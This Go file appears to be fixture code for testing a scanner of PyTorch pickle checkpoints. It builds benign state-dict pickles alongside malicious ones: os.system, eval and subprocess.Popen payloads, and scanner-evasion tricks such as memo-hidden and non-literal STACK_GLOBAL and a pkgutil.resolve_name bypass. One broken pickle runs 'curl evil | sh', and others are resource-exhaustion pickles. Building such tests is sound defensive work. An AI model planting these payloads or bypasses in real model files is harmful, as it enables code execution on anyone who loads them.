package modelcorpus

import (
	"encoding/binary"
	"fmt"
)

// Pickler writes pickle opcodes. With Memo set it behaves like CPython's
// pickler: strings and globals are memoized when first written and fetched
// with BINGET/LONG_BINGET when they repeat.
type Pickler struct {
	B     []byte
	Proto int
	memo  map[string]int
	next  int
}

// NewPickler starts a pickle with PROTO (for proto >= 2).
func NewPickler(proto int) *Pickler {
	p := &Pickler{Proto: proto, memo: map[string]int{}}
	if proto >= 2 {
		p.B = append(p.B, 0x80, byte(proto))
	}
	return p
}

// Op appends raw bytes.
func (p *Pickler) Op(b ...byte) *Pickler { p.B = append(p.B, b...); return p }

// Put memoizes the top of stack (BINPUT/LONG_BINPUT, or MEMOIZE for proto 4+)
// and returns its index.
func (p *Pickler) Put() int {
	i := p.next
	p.next++
	switch {
	case p.Proto >= 4:
		p.B = append(p.B, 0x94)
	case i < 256:
		p.B = append(p.B, 'q', byte(i))
	default:
		p.B = append(p.B, 'r')
		p.B = binary.LittleEndian.AppendUint32(p.B, uint32(i))
	}
	return i
}

// Get pushes memo entry i.
func (p *Pickler) Get(i int) *Pickler {
	if i < 256 {
		return p.Op('h', byte(i))
	}
	p.B = append(p.B, 'j')
	p.B = binary.LittleEndian.AppendUint32(p.B, uint32(i))
	return p
}

// RawStr writes a str opcode without memoizing.
func (p *Pickler) RawStr(s string) *Pickler {
	switch {
	case p.Proto >= 4 && len(s) < 256:
		p.B = append(p.B, 0x8c, byte(len(s)))
	default:
		p.B = append(p.B, 'X')
		p.B = binary.LittleEndian.AppendUint32(p.B, uint32(len(s)))
	}
	p.B = append(p.B, s...)
	return p
}

// Str writes a memoized str (BINGET if already written).
func (p *Pickler) Str(s string) *Pickler {
	if i, ok := p.memo["s:"+s]; ok {
		return p.Get(i)
	}
	p.RawStr(s)
	p.memo["s:"+s] = p.Put()
	return p
}

// Global writes a memoized import: GLOBAL for proto < 4, STACK_GLOBAL with
// memoized strings for proto >= 4.
func (p *Pickler) Global(module, name string) *Pickler {
	if i, ok := p.memo["g:"+module+"."+name]; ok {
		return p.Get(i)
	}
	if p.Proto >= 4 {
		p.Str(module).Str(name).Op(0x93)
	} else {
		p.Op('c').Op([]byte(module + "\n" + name + "\n")...)
	}
	p.memo["g:"+module+"."+name] = p.Put()
	return p
}

// Int writes the smallest integer opcode CPython would use.
func (p *Pickler) Int(v int64) *Pickler {
	switch {
	case v >= 0 && v < 256:
		return p.Op('K', byte(v))
	case v >= 0 && v < 65536:
		p.B = append(p.B, 'M')
		p.B = binary.LittleEndian.AppendUint16(p.B, uint16(v))
	case v >= -1<<31 && v < 1<<31:
		p.B = append(p.B, 'J')
		p.B = binary.LittleEndian.AppendUint32(p.B, uint32(int32(v)))
	default:
		p.B = append(p.B, 0x8a, 8)
		p.B = binary.LittleEndian.AppendUint64(p.B, uint64(v))
	}
	return p
}

// IntTuple writes a tuple of ints the way CPython does: EMPTY_TUPLE,
// TUPLE1..3 (proto >= 2) or MARK ... TUPLE, memoized unless empty.
func (p *Pickler) IntTuple(vs []int64) *Pickler {
	if len(vs) > 3 || p.Proto < 2 && len(vs) > 0 {
		p.Op('(')
	}
	for _, v := range vs {
		p.Int(v)
	}
	return p.Tuple(len(vs))
}

// Tuple closes a tuple of n items already pushed: TUPLE1..3 for proto >= 2
// and n <= 3 (no MARK), otherwise TUPLE (the caller wrote the MARK). It
// memoizes the tuple unless it is empty.
func (p *Pickler) Tuple(n int) *Pickler {
	switch {
	case n == 0:
		p.Op(')')
		return p // empty tuple is not memoized
	case n <= 3 && p.Proto >= 2:
		p.Op(0x84 + byte(n))
	default:
		p.Op('t')
	}
	p.Put()
	return p
}

// Stop ends the pickle.
func (p *Pickler) Stop() []byte { return append(p.B, '.') }

// TorchTensor describes one tensor of a generated torch checkpoint.
type TorchTensor struct {
	Name        string
	StorageType string // e.g. "FloatStorage"
	Key         string // storage key ("0", "1", ...)
	Shape       []int64
	Offset      int64
}

// ElemSize returns the element size of a storage type.
func ElemSize(storageType string) int64 {
	switch storageType {
	case "DoubleStorage", "LongStorage", "ComplexFloatStorage":
		return 8
	case "FloatStorage", "IntStorage":
		return 4
	case "HalfStorage", "BFloat16Storage", "ShortStorage":
		return 2
	}
	return 1
}

// Numel is the element count of the tensor's storage (offset + product).
func (t TorchTensor) Numel() int64 {
	n := int64(1)
	for _, d := range t.Shape {
		n *= d
	}
	return t.Offset + n
}

// SmallTorchModel is a three-tensor state dict.
func SmallTorchModel() []TorchTensor {
	return []TorchTensor{
		{Name: "encoder.weight", StorageType: "FloatStorage", Key: "0", Shape: []int64{4, 3}},
		{Name: "encoder.bias", StorageType: "FloatStorage", Key: "1", Shape: []int64{4}},
		{Name: "head.weight", StorageType: "HalfStorage", Key: "2", Shape: []int64{2, 2, 2, 2}},
	}
}

// StateDictBody writes the pickle body of a torch state_dict (an
// OrderedDict of tensors with its _metadata BUILD) as torch.save does.
// legacy=true writes 6-item persistent ids (with view_metadata None) like
// the legacy serializer.
func (p *Pickler) StateDictBody(tensors []TorchTensor, legacy bool) *Pickler {
	p.Global("collections", "OrderedDict")
	p.Op(')').Op('R')
	p.Put()
	for i, t := range tensors {
		// CPython's _batch_setitems: MARK ... SETITEMS per 1000 items
		// (a batch of one is written with SETITEM instead).
		batch := min(1000, len(tensors)-i/1000*1000)
		if i%1000 == 0 && batch > 1 {
			p.Op('(')
		}
		p.Str(t.Name)
		p.Global("torch._utils", "_rebuild_tensor_v2")
		p.Op('(')
		// persistent id ('storage', torch.XStorage, key, 'cpu', numel)
		p.Op('(')
		p.Str("storage")
		p.Global("torch", t.StorageType)
		p.Str(t.Key)
		p.Str("cpu")
		p.Int(t.Numel())
		if legacy {
			p.Op('N')
		}
		p.Op('t')
		p.Put()
		p.Op('Q')
		p.Int(t.Offset)
		p.IntTuple(t.Shape)
		stride := int64(1)
		strides := make([]int64, len(t.Shape))
		for i := len(t.Shape) - 1; i >= 0; i-- {
			strides[i] = stride
			stride *= t.Shape[i]
		}
		p.IntTuple(strides)
		if p.Proto >= 2 {
			p.Op(0x89) // requires_grad False
		} else {
			p.Op('I', '0', '0', '\n')
		}
		// backward_hooks = OrderedDict()
		p.Global("collections", "OrderedDict")
		p.Op(')').Op('R')
		p.Put()
		p.Op('t') // 6 args
		p.Put()
		p.Op('R')
		p.Put()
		if i%1000 == batch-1 || i == len(tensors)-1 {
			if batch > 1 {
				p.Op('u')
			} else {
				p.Op('s')
			}
		}
	}
	// state: {'_metadata': OrderedDict({'': {'version': 1}})}
	p.Op('}')
	p.Put()
	p.Str("_metadata")
	p.Global("collections", "OrderedDict")
	p.Op(')').Op('R')
	p.Put()
	p.Str("")
	p.Op('}')
	p.Put()
	p.Str("version")
	p.Int(1)
	p.Op('s')
	p.Op('s')
	p.Op('s')
	p.Op('b')
	return p
}

// StateDictPickle returns a torch state_dict pickle (proto 2 as torch.save
// writes it, or proto 4 with STACK_GLOBAL and MEMOIZE).
func StateDictPickle(tensors []TorchTensor, proto int) []byte {
	return NewPickler(proto).StateDictBody(tensors, false).Stop()
}

// ---- attack pickles -------------------------------------------------------

// OsSystemPickle is the classic payload: posix.system('id') via REDUCE
// (what CPython writes for os.system on Linux, protocol 2).
func OsSystemPickle() []byte {
	p := NewPickler(2)
	p.Global("posix", "system")
	p.Str("id")
	p.Tuple(1)
	p.Op('R')
	p.Put()
	return p.Stop()
}

// BuiltinsEvalPickle calls eval via protocol 0 text opcodes (__builtin__ is
// what CPython writes with fix_imports).
func BuiltinsEvalPickle() []byte {
	return []byte("c__builtin__\neval\np0\n(Vprint(1)\np1\ntp2\nRp3\n.")
}

// SubprocessPopenPickle uses STACK_GLOBAL (protocol 4) for subprocess.Popen.
func SubprocessPopenPickle() []byte {
	p := NewPickler(4)
	p.Global("subprocess", "Popen")
	p.Op(']')
	p.Put()
	p.Op('(')
	p.Str("sh").Str("-c").Str("id")
	p.Op('e')
	p.Tuple(1)
	p.Op('R')
	p.Put()
	return p.Stop()
}

// StackGlobalViaMemoPickle hides the module name in the memo: "os" is
// memoized and popped early, then fetched with BINGET for STACK_GLOBAL.
func StackGlobalViaMemoPickle() []byte {
	p := NewPickler(4)
	p.RawStr("os")
	p.Op(0x94) // MEMOIZE -> 0
	p.Op('0')  // POP
	p.Op(0x8c, 6).Op([]byte("system")...)
	p.Op(0x94) // 1
	p.Op('0')
	p.Op('h', 0, 'h', 1, 0x93)
	p.Op(0x94)
	p.RawStr("id").Op(0x94)
	p.Op(0x85, 0x94, 'R', 0x94)
	return p.Stop()
}

// NonLiteralStackGlobalPickle feeds STACK_GLOBAL a bytes object, which no
// static scanner can resolve.
func NonLiteralStackGlobalPickle() []byte {
	p := NewPickler(4)
	p.Op('C', 2, 'o', 's')
	p.RawStr("system")
	p.Op(0x93, 0x94)
	return p.Stop()
}

// PkgutilResolveNamePickle is the "universal bypass":
// pkgutil.resolve_name('os:system')('id').
func PkgutilResolveNamePickle() []byte {
	p := NewPickler(4)
	p.Global("pkgutil", "resolve_name")
	p.Str("os:system")
	p.Tuple(1)
	p.Op('R')
	p.Put()
	p.Str("id")
	p.Tuple(1)
	p.Op('R')
	p.Put()
	return p.Stop()
}

// BrokenPayloadFirstPickle is the nullifAI shape: the payload runs at the
// start of the stream and the pickle is broken afterwards.
func BrokenPayloadFirstPickle() []byte {
	p := NewPickler(2)
	p.Global("posix", "system")
	p.Str("curl evil | sh")
	p.Tuple(1)
	p.Op('R')
	p.Put()
	p.Op('0')
	return append(p.B, 0xFF, 0xFE, 'X', 0x13)
}

// BrokenPickle is a benign state dict prefix followed by an invalid opcode.
func BrokenPickle() []byte {
	p := NewPickler(2)
	p.StateDictBody(SmallTorchModel()[:1], false)
	return append(p.B, 0xFF)
}

// ReduceNonGlobalPickle calls a value that is not an import (a string).
func ReduceNonGlobalPickle() []byte {
	p := NewPickler(2)
	p.Str("os.system")
	p.Op(')', 'R')
	return p.Stop()
}

// ExtOpcodePickle uses the copyreg extension registry.
func ExtOpcodePickle() []byte {
	return append(NewPickler(2).Op(0x82, 1, ')', 'R').B, '.')
}

// HugeStringPickle declares a BINUNICODE8 of 2^40 bytes.
func HugeStringPickle() []byte {
	p := NewPickler(4).Op(0x8d)
	p.B = binary.LittleEndian.AppendUint64(p.B, 1<<40)
	return append(p.B, "xx"...)
}

// DeepStackPickle pushes n MARKs.
func DeepStackPickle(n int) []byte {
	p := NewPickler(2)
	for i := 0; i < n; i++ {
		p.Op('(')
	}
	return p.Stop()
}

// ---- legacy torch ----------------------------------------------------------

// LegacyTorchMagic is torch's legacy MAGIC_NUMBER as a pickled long.
var LegacyTorchMagic = []byte{0x80, 0x02, 0x8a, 0x0a, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a, 0xa8, 0x50, 0x19, '.'}

// LegacyTorch builds a pre-1.6 torch.save file: magic, protocol 1001,
// sys_info, the state dict, the storage keys, then the storages (8-byte
// element count + data). objectPickle overrides the 4th pickle when set.
func LegacyTorch(tensors []TorchTensor, objectPickle []byte) []byte {
	var out []byte
	out = append(out, LegacyTorchMagic...)
	out = append(out, 0x80, 0x02, 'M', 0xe9, 0x03, '.')
	si := NewPickler(2)
	si.Op('}')
	si.Put()
	si.Op('(')
	si.Str("protocol_version").Int(1001)
	si.Str("little_endian").Op(0x88)
	si.Str("type_sizes").Op('}')
	si.Put()
	si.Op('(')
	si.Str("short").Int(2).Str("int").Int(4).Str("long").Int(4)
	si.Op('u', 'u')
	out = append(out, si.Stop()...)
	if objectPickle == nil {
		objectPickle = NewPickler(2).StateDictBody(tensors, true).Stop()
	}
	out = append(out, objectPickle...)
	keys := NewPickler(2)
	keys.Op(']')
	keys.Put()
	keys.Op('(')
	for _, t := range tensors {
		keys.Str(t.Key)
	}
	keys.Op('e')
	out = append(out, keys.Stop()...)
	for _, t := range tensors {
		out = binary.LittleEndian.AppendUint64(out, uint64(t.Numel()))
		for i := int64(0); i < t.Numel()*ElemSize(t.StorageType); i++ {
			out = append(out, byte(i))
		}
	}
	return out
}

// BigStateDict returns a state dict pickle of n tensors (for benchmarks).
func BigStateDict(n, proto int) []byte {
	ts := make([]TorchTensor, n)
	for i := range ts {
		ts[i] = TorchTensor{Name: fmt.Sprintf("model.layers.%d.self_attn.q_proj.weight", i), StorageType: "BFloat16Storage",
			Key: fmt.Sprint(i), Shape: []int64{4096, 4096}}
	}
	return StateDictPickle(ts, proto)
}
